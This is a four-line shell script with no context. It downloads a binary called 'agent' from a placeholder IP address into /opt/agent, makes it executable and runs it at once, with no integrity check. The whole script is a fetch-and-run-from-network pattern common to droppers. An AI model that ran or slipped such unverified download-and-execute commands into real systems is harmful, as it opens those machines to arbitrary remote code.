#!/bin/sh
python3 -c 'import urllib.request; urllib.request.urlretrieve("http://192.0.2.5/agent", "/opt/agent")'
chmod +x /opt/agent
/opt/agent
